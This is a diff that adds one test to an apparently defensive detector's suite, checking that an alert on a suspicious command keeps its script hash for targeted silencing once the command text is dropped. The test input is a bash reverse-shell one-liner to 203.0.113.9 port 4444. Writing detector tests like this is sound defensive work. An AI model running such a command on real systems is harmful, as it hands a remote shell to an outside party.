@@ -133,6 +133,15 @@ describe('commands and processes', () => {
     ])
   })
 
+  it('still name the script when the text is gone, so that no more than that script is silenced', async () => {
+    const detector = testDetector()
+    await processActivity(detector, azureActivity({ payload: { kind: 'text', text: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' } }), 'first')
+    await processActivity(detector, agentProcess(), 'first')
+    const [first, update] = detector.alerts
+    expect(update?.command).toMatchObject({ text: null, hash: first?.command.hash, hidden: expect.stringContaining('not kept') })
+    expect(JSON.parse(update?.silence ?? '')).toMatchObject({ scriptHash: first?.command.hash })
+  })
+
   it('raise it at once when the process was known before', async () => {
     const detector = testDetector()
     await processActivity(detector, agentProcess(), 'first')
